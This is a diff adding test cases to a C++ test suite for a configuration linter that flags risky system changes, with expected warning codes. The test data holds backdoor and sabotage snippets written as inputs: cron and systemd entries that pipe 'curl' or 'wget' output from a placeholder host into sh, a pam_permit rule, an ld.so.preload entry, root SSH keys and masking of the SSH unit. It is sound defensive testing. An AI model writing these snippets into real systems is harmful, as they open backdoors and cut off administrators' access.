@@ -64,6 +64,86 @@ const Case kCases[] = {
      "risky change: file[\"/boot\"] manages boot files"},
     {"Bootstrap", "file \"/bootstrap\" {\n}\n", "", ""},
     {"Motd", "file \"/etc/motd\" {\n  content = \"\"\n}\n", "", ""},
+    // The attacks a trial wrote to evade the first rules (issue #14), each
+    // flagged, and the ordinary changes next to them, each not.
+    {"SshMasked", "service \"ssh\" {\n  masked = true\n}\n", "W0302",
+     "risky change: service[\"ssh\"] is masked (masked = true)"},
+    {"SshSocketDisabled", "service \"ssh.socket\" {\n  enabled = false\n}\n", "W0302",
+     "risky change: service[\"ssh.socket\"] is disabled (enabled = false)"},
+    {"SshMaskedByLink",
+     "file \"/etc/systemd/system/ssh.service\" {\n  ensure = \"link\"\n  target = \"/dev/null\"\n}\n",
+     "W0302", "risky change: file[\"/etc/systemd/system/ssh.service\"] overrides or masks the SSH "
+              "server's unit"},
+    {"SshDropIn",
+     "file \"/etc/systemd/system/ssh.service.d/override.conf\" {\n  content = \"[Service]\\nExecStart=\\nExecStart=/bin/false\\n\"\n}\n",
+     "W0302", "risky change: file[\"/etc/systemd/system/ssh.service.d/override.conf\"] overrides or "
+              "masks the SSH server's unit"},
+    {"AnyUnitMasked",
+     "file \"/etc/systemd/system/cron.service\" {\n  ensure = \"link\"\n  target = \"/dev/null\"\n}\n",
+     "W0302", "risky change: file[\"/etc/systemd/system/cron.service\"] masks a unit (target = "
+              "\"/dev/null\")"},
+    {"RootAuthorizedKeys", "file \"/root/.ssh/authorized_keys\" {\n  content = \"ssh-ed25519 AAAA x\\n\"\n}\n",
+     "W0307", "risky change: file[\"/root/.ssh/authorized_keys\"] manages SSH keys that may log in"},
+    {"UserAuthorizedKeys2", "file \"/home/bob/.ssh/authorized_keys2\" {\n  content = \"\"\n}\n",
+     "W0307", "risky change: file[\"/home/bob/.ssh/authorized_keys2\"] manages SSH keys that may log in"},
+    {"PamPermit", "file \"/etc/pam.d/su\" {\n  content = \"auth sufficient pam_permit.so\\n\"\n}\n",
+     "W0308", "risky change: file[\"/etc/pam.d/su\"] manages PAM, which decides who may log in"},
+    {"Polkit", "file \"/etc/polkit-1/rules.d/00-all.rules\" {\n  content = \"\"\n}\n", "W0308",
+     "risky change: file[\"/etc/polkit-1/rules.d/00-all.rules\"] manages polkit, which grants "
+     "privileged actions"},
+    {"LdPreload", "file \"/etc/ld.so.preload\" {\n  content = \"/tmp/x.so\\n\"\n}\n", "W0308",
+     "risky change: file[\"/etc/ld.so.preload\"] preloads a library into every program"},
+    {"Nsswitch", "file \"/etc/nsswitch.conf\" {\n  content = \"\"\n}\n", "W0308",
+     "risky change: file[\"/etc/nsswitch.conf\"] changes where accounts are looked up"},
+    {"PasswdBackup", "file \"/etc/passwd-\" {\n  content = \"\"\n}\n", "W0304",
+     "risky change: file[\"/etc/passwd-\"] manages an account database"},
+    {"Subuid", "file \"/etc/subuid\" {\n  content = \"\"\n}\n", "W0304",
+     "risky change: file[\"/etc/subuid\"] manages subordinate ids"},
+    {"Setuid", "file \"/usr/local/bin/sh\" {\n  source = \"files/sh\"\n  mode = \"4755\"\n}\n", "W0309",
+     "risky change: file[\"/usr/local/bin/sh\"] is setuid or setgid (mode = \"4755\")"},
+    {"Crypttab", "file \"/etc/crypttab\" {\n  content = \"\"\n}\n", "W0306",
+     "risky change: file[\"/etc/crypttab\"] manages the encrypted disks opened at boot"},
+    {"GrubDefaults", "file \"/etc/default/grub\" {\n  content = \"\"\n}\n", "W0306",
+     "risky change: file[\"/etc/default/grub\"] manages the boot loader's settings"},
+    {"CronFetchAndRun",
+     "file \"/etc/cron.d/update\" {\n  content = \"* * * * * root curl -s http://x | sh\\n\"\n}\n",
+     "W0310", "risky change: file[\"/etc/cron.d/update\"] runs fetched or hidden code from cron "
+              "(its content has \"curl \")"},
+    {"OrdinaryCron",
+     "file \"/etc/cron.d/backup\" {\n  content = \"0 3 * * * root /usr/local/bin/backup\\n\"\n}\n",
+     "", ""},
+    {"RcLocal", "file \"/etc/rc.local\" {\n  content = \"\"\n}\n", "W0310",
+     "risky change: file[\"/etc/rc.local\"] runs commands at every boot"},
+    {"BackdoorUnit",
+     "file \"/etc/systemd/system/updater.service\" {\n  content = \"[Service]\\nExecStart=/bin/sh -c 'wget -qO- http://x | sh'\\n\"\n}\n",
+     "W0310", "risky change: file[\"/etc/systemd/system/updater.service\"] makes a unit run fetched "
+              "or hidden code (its content has \"wget \")"},
+    {"OrdinaryUnit",
+     "file \"/etc/systemd/system/app.service\" {\n  content = \"[Service]\\nExecStart=/usr/bin/app\\n\"\n}\n",
+     "", ""},
+    {"AptTrustedYes",
+     "file \"/etc/apt/sources.list.d/x.list\" {\n  content = \"deb [trusted=yes] http://x/ stable main\\n\"\n}\n",
+     "W0311", "risky change: file[\"/etc/apt/sources.list.d/x.list\"] trusts packages nobody signed "
+              "(its content has \"trusted=yes\")"},
+    {"OrdinaryAptSource",
+     "file \"/etc/apt/sources.list.d/x.list\" {\n  content = \"deb http://deb.debian.org/debian bookworm main\\n\"\n}\n",
+     "", ""},
+    {"AptKeyring", "file \"/etc/apt/trusted.gpg.d/x.asc\" {\n  content = \"\"\n}\n", "W0311",
+     "risky change: file[\"/etc/apt/trusted.gpg.d/x.asc\"] changes the keys apt trusts"},
+    // What a snapshot records to give back what was there is no new risk.
+    {"PamPackageDefault", "file \"/etc/pam.d/su\" { package_default = \"util-linux\" }\n", "", ""},
+    {"SecretKept",
+     "file \"/etc/security/opasswd\" {\n  machine_secret = \"0123456789abcdef0123456789abcdef\"\n  mode = \"0600\"\n}\n",
+     "", ""},
+    // Lint leaves a snapshot's own record of a file to the plan.
+    {"SnapshotRecord",
+     "file \"/etc/security/namespace.init\" {\n  source = \"filesystem/etc/security/namespace.init\"\n  mode = \"0755\"\n}\n",
+     "", ""},
+    {"SourceElsewhere",
+     "file \"/etc/sudoers.d/ops\" {\n  source = \"files/ops\"\n}\n", "W0303",
+     "risky change: file[\"/etc/sudoers.d/ops\"] manages sudo's rules"},
+    {"AppConfig", "file \"/etc/myapp/app.conf\" {\n  content = \"port = 80\\n\"\n  mode = \"0640\"\n}\n", "", ""},
+    {"ServiceEnabled", "service \"nginx\" {\n  enabled = true\n}\n", "", ""},
     // allow_risky is a request, not an approval: still flagged, as W0300.
     {"RequestedSudoers",
      "file \"/etc/sudoers.d/ops\" {\n  content = \"\"\n  allow_risky = true\n}\n", "W0300",
@@ -130,6 +210,7 @@ TEST(Risk, EveryRuleHasAWarningCodeAndText) {
     EXPECT_FALSE(rule.danger.empty());
     EXPECT_EQ(rule.attribute.empty(), rule.values.empty()) << rule.code;
   }
+  EXPECT_GT(risk_rules().size(), 50u) << "the shipped file parsed";
 }
 
 }  // namespace
